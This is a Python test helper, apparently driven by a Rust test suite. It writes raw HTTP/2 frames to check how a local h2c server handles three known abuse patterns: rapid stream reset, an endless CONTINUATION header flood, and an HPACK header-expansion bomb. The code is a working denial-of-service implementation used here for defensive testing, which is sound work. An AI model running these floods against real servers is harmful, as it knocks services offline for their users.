#!/usr/bin/python3
"""Known HTTP/2 abuse patterns against a server speaking h2c on 127.0.0.1:PORT.

Run by tests/h2_abuse.rs (Debian's python3-h2 provides hyperframe and hpack);
writes frames itself, since a well-behaved client library refuses to. Prints one
JSON object: what the server answered and how the connection ended.

  abuse.py PORT rapid-reset N PATH    N streams opened and cancelled at once
  abuse.py PORT continuation MAX_MB   one header block continued for ever
  abuse.py PORT hpack-bomb N PATH     N requests whose few header bytes expand
                                      (dynamic table references) to 400 KB each
"""
import json
import socket
import sys
import time

from hpack import Decoder, Encoder
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame,
                              HeadersFrame, PingFrame, RstStreamFrame,
                              SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Conn:
    def __init__(self, port):
        self.sock = socket.create_connection(("127.0.0.1", port))
        self.sock.settimeout(5)
        self.buf = b""
        self.decoder = Decoder()
        self.decoder.max_allowed_table_size = 1 << 16
        self.statuses = {}
        self.resets = {}
        self.goaway = None
        self.closed = False
        self.sent = 0
        self.send(PREFACE + SettingsFrame(0).serialize())

    def send(self, data):
        try:
            self.sock.sendall(data)
            self.sent += len(data)
            return True
        except OSError:
            self.closed = True
            return False

    def read_frames(self, quiet=1.0, until=None):
        """Reads and handles frames until the connection ends, `quiet` seconds
        pass without one, or until(self) is true."""
        self.sock.settimeout(quiet)
        while not self.closed:
            if until and until(self):
                return
            while len(self.buf) < 9 or len(self.buf) < 9 + int.from_bytes(self.buf[:3], "big"):
                try:
                    chunk = self.sock.recv(1 << 16)
                except socket.timeout:
                    return
                except OSError:
                    self.closed = True
                    return
                if not chunk:
                    self.closed = True
                    return
                self.buf += chunk
            frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            frame.parse_body(memoryview(self.buf[9:9 + length]))
            self.buf = self.buf[9 + length:]
            self.handle(frame)

    def handle(self, frame):
        if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            self.send(SettingsFrame(0, flags=["ACK"]).serialize())
        elif isinstance(frame, PingFrame) and "ACK" not in frame.flags:
            self.send(PingFrame(0, opaque_data=frame.opaque_data, flags=["ACK"]).serialize())
        elif isinstance(frame, HeadersFrame):
            for name, value in self.decoder.decode(frame.data):
                if name in (b":status", ":status"):
                    status = value.decode() if isinstance(value, bytes) else value
                    self.statuses[status] = self.statuses.get(status, 0) + 1
        elif isinstance(frame, DataFrame) and frame.flow_controlled_length:
            # Keep the windows open so that answers are not held back.
            self.send(WindowUpdateFrame(0, window_increment=frame.flow_controlled_length).serialize()
                      + WindowUpdateFrame(frame.stream_id, window_increment=frame.flow_controlled_length).serialize()
                      if frame.stream_id else b"")
        elif isinstance(frame, RstStreamFrame):
            self.resets[str(frame.error_code)] = self.resets.get(str(frame.error_code), 0) + 1
        elif isinstance(frame, GoAwayFrame):
            self.goaway = frame.error_code

    def report(self, **extra):
        out = {
            "statuses": self.statuses,
            "resets": self.resets,
            "goaway": self.goaway,
            "closed": self.closed,
            "sent": self.sent,
        }
        out.update(extra)
        print(json.dumps(out))


def hpack_int(n, prefix):
    """An HPACK integer with a `prefix`-bit prefix (RFC 7541 §5.1), flags 0."""
    top = (1 << prefix) - 1
    if n < top:
        return bytes([n])
    out = [top]
    n -= top
    while n >= 128:
        out.append(n % 128 | 0x80)
        n //= 128
    out.append(n)
    return bytes(out)


def request_block(enc, path, extra=()):
    return enc.encode([(":method", "GET"), (":scheme", "http"), (":authority", "x"),
                       (":path", path)] + list(extra))


def rapid_reset(port, n, path):
    c = Conn(port)
    c.read_frames(quiet=0.3)
    enc = Encoder()
    batch = b""
    for i in range(n):
        sid = 1 + 2 * i
        batch += HeadersFrame(sid, data=request_block(enc, path),
                              flags=["END_HEADERS", "END_STREAM"]).serialize()
        batch += RstStreamFrame(sid, error_code=8).serialize()  # CANCEL
        if len(batch) > 32768:
            if not c.send(batch):
                break
            batch = b""
    if batch:
        c.send(batch)
    started = time.time()
    c.read_frames(quiet=2.0)
    c.report(streams=n, seconds=round(time.time() - started, 3))


def continuation(port, max_mb):
    c = Conn(port)
    c.read_frames(quiet=0.3)
    enc = Encoder()
    block = request_block(enc, "/hello.php")
    c.send(HeadersFrame(1, data=block, flags=["END_STREAM"]).serialize())
    # Literal header fields without indexing, 16 KiB a frame, never ending.
    value = 16000
    field = b"\x00\x0ax-flooding" + hpack_int(value, 7) + b"y" * value
    limit = max_mb << 20
    while c.sent < limit and not c.closed:
        if not c.send(ContinuationFrame(1, data=field).serialize()):
            break
        c.sock.setblocking(False)
        try:
            chunk = c.sock.recv(1 << 16)
            if chunk == b"":
                c.closed = True
            else:
                c.buf += chunk
        except BlockingIOError:
            pass
        except OSError:
            c.closed = True
        c.sock.setblocking(True)
    c.read_frames(quiet=1.0)
    c.report()


def hpack_bomb(port, n, path):
    c = Conn(port)
    c.read_frames(quiet=0.3)
    enc = Encoder()
    big = ("x-bomb", "b" * 4000)
    sent_bytes = 0
    for i in range(n):
        block = request_block(enc, path, [big] * 100)
        sent_bytes += len(block)
        c.send(HeadersFrame(1 + 2 * i, data=block,
                            flags=["END_HEADERS", "END_STREAM"]).serialize())
    c.read_frames(quiet=2.0)
    c.report(header_block_bytes=sent_bytes)


def main():
    port = int(sys.argv[1])
    mode = sys.argv[2]
    if mode == "rapid-reset":
        rapid_reset(port, int(sys.argv[3]), sys.argv[4])
    elif mode == "continuation":
        continuation(port, int(sys.argv[3]))
    elif mode == "hpack-bomb":
        hpack_bomb(port, int(sys.argv[3]), sys.argv[4])
    else:
        sys.exit("unknown mode " + mode)


if __name__ == "__main__":
    main()
